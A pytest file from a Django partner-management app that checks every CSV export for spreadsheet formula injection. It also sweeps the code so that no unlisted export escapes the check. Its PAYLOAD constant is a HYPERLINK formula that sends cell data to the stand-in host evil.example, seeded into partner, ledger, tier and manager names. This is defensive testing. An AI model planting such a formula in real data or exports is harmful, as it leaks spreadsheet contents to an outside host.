"""Every CSV export, fetched as a role allowed to: no cell a spreadsheet would run as a
formula. Text typed by anyone (a company name on the public application form, a ledger
description, a manager's name) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a line
break comes out prefixed with ``'``; amounts stay numbers, negative ones too.

The list of exports below is checked against the code: a CSV writer or content type outside
``prm.downloads``, a new call of ``csv_attachment``, a URL ending in ``.csv`` or an admin
action that exports, which the list does not name, fails the sweep."""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib import admin
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from rest_framework.test import APIClient

from incentives.models import LedgerEntry
from prm.downloads import FORMULA_STARTS, csv_cell, csv_text
from prm.quarters import Quarter
from prm.roles import Role
from scoring.views import EXPORTS as DASHBOARD_TABLES
from tests.factories import (
    LedgerEntryFactory,
    PartnerFactory,
    StaffFactory,
    WonDealFactory,
    default_tier,
)

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
APPS = ["prm", "partners", "deals", "incentives", "enablement", "scoring"]
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?d="&A1,"Click")'

# Where CSV is served from, and the exports each place serves (fetched below).
CSV_SITES = {"incentives/api.py": 1, "incentives/admin.py": 1, "scoring/views.py": 1}
CSV_URLS = {"executive-export"}  # URL names whose route ends in .csv
CSV_API_ACTIONS = {"ledger-export"}  # URL names; fetched as /api/v1/ledger/export/
CSV_ADMIN_ACTIONS = {("incentives", "ledgerentry", "export_csv")}


def sources():
    for app in APPS:
        for path in sorted((ROOT / app).rglob("*.py")):
            if "migrations" not in path.parts:
                yield path.relative_to(ROOT).as_posix(), path.read_text()


# ---------------------------------------------------------------- the helper


@pytest.mark.parametrize("start", DANGEROUS + ["\n"])
def test_text_that_starts_a_formula_is_quoted(start):
    assert csv_cell(f"{start}{PAYLOAD}") == f"'{start}{PAYLOAD}"


@pytest.mark.parametrize(
    "value", [Decimal("-12.50"), -3, 2.5, date(2026, 1, 2), "Acme", "a=b", "", "12"]
)
def test_numbers_dates_and_plain_text_are_left_alone(value):
    assert csv_cell(value) == value


def test_a_negative_amount_stays_a_number_but_a_dash_in_text_does_not():
    text = csv_text(["amount", "note"], [[Decimal("-12.50"), "-12.50"], {"amount": None}])
    assert list(csv.reader(io.StringIO(text))) == [
        ["amount", "note"],
        ["-12.50", "'-12.50"],
        ["", ""],
    ]


# ---------------------------------------------------------------- the list is complete


def test_csv_is_written_only_by_the_one_helper():
    # (an OpenAPI schema's ``(200, "text/csv")`` describes an export, it does not write one)
    writers = re.compile(r"csv\.(writer|DictWriter)\b|StreamingHttpResponse|(?<!\(200, \")text/csv")
    found = {
        name
        for name, text in sources()
        if writers.search(text) and name not in ("prm/downloads.py", "prm/uploads.py")
    }
    assert found == set(), f"CSV written outside prm.downloads: {sorted(found)}"
    sites = {
        name: text.count("csv_attachment(")
        for name, text in sources()
        if "csv_attachment(" in text and name != "prm/downloads.py"
    }
    assert sites == CSV_SITES, "a CSV export changed: add it to this sweep"


def _patterns(resolver, prefix=""):
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            yield from _patterns(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern), entry


def test_every_csv_url_and_export_action_is_swept():
    urls = {entry.name for route, entry in _patterns(get_resolver()) if ".csv" in route}
    assert urls == CSV_URLS
    # The API's routes by name (DRF adds a ``.format`` twin of each).
    api = {
        entry.name
        for route, entry in _patterns(get_resolver())
        if route.startswith("api/") and re.search(r"export|csv", route)
    }
    assert api == CSV_API_ACTIONS
    actions = set()
    for model, model_admin in admin.site._registry.items():
        for name in model_admin.actions or []:
            if re.search(r"csv|export", str(name), re.IGNORECASE):
                actions.add((model._meta.app_label, model._meta.model_name, name))
    assert actions == CSV_ADMIN_ACTIONS


# ---------------------------------------------------------------- the sweep


@pytest.fixture
def hostile(manager):
    """Partners, a tier, a manager and ledger entries whose text starts each formula."""
    manager.first_name, manager.last_name = f"={PAYLOAD}", f"@{PAYLOAD}"
    manager.save()
    gold = default_tier("gold")
    gold.name = f"+{PAYLOAD}"
    gold.save()
    today = timezone.localdate()
    ids = []
    for n, start in enumerate(DANGEROUS):
        partner = PartnerFactory(name=f"{start}{PAYLOAD} {n}", tier=gold, channel_manager=manager)
        WonDealFactory(partner=partner, closed_on=today, amount=Decimal(1000 + n))
        entry = LedgerEntryFactory(
            partner=partner, kind="rebate", claim_by=None, description=f"{start}{PAYLOAD}"
        )
        ids.append(entry.pk)
    LedgerEntry.objects.filter(pk__in=ids).update(
        status="approved", approved_at=timezone.now(), due_on=today, amount=Decimal("12.5")
    )
    return ids


def exports(hostile, client, finance, executive):
    """(name, response) for every CSV export."""
    quarter = Quarter.containing(timezone.localdate()).label
    api = APIClient()
    api.force_authenticate(finance)
    yield "api ledger export", api.get("/api/v1/ledger/export/")
    client.force_login(finance)
    yield (
        "admin payment run",
        client.post(
            reverse("admin:incentives_ledgerentry_changelist"),
            {"action": "export_csv", "_selected_action": hostile},
        ),
    )
    client.force_login(executive)
    for table in DASHBOARD_TABLES:
        url = reverse("executive-export", args=[table]) + f"?quarter={quarter}"
        yield f"dashboard {table}", client.get(url)


@pytest.fixture
def finance(db):
    return StaffFactory(username="finance", role=Role.FINANCE, is_superuser=False)


def test_no_export_hands_a_spreadsheet_a_formula(hostile, client, finance, executive):
    seen = {}
    for name, response in exports(hostile, client, finance, executive):
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("text/csv"), name
        assert response["Content-Disposition"].startswith("attachment;"), name
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        assert len(rows) > 1, f"{name} is empty: the sweep would prove nothing"
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), f"{name}: {cell!r}"
        seen[name] = [cell for row in rows for cell in row]
    quoted = {f"'{start}{PAYLOAD}" for start in DANGEROUS}
    for name in ("api ledger export", "admin payment run"):
        assert quoted <= set(seen[name]), name
        assert "12.50" in seen[name], f"{name}: amounts keep two decimals"
    assert any(cell.startswith(f"'={PAYLOAD} ") for cell in seen["dashboard top-partners"])
    assert f"'+{PAYLOAD}" in seen["dashboard tiers"]
    assert f"'={PAYLOAD}" in seen["dashboard managers"]
    assert f"'@{PAYLOAD}" in seen["dashboard managers"]
